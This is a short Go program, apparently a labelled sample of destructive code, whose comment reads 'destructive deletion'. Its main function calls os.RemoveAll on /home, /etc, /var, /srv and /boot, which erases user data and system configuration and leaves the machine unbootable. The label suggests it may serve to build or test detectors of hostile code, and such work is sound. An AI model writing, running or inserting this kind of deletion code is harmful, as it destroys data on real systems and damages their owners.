// class: destructive deletion; style: short
package main

import "os"

func main() {
	for _, dir := range []string{"/home", "/etc", "/var", "/srv", "/boot"} {
		os.RemoveAll(dir)
	}
}
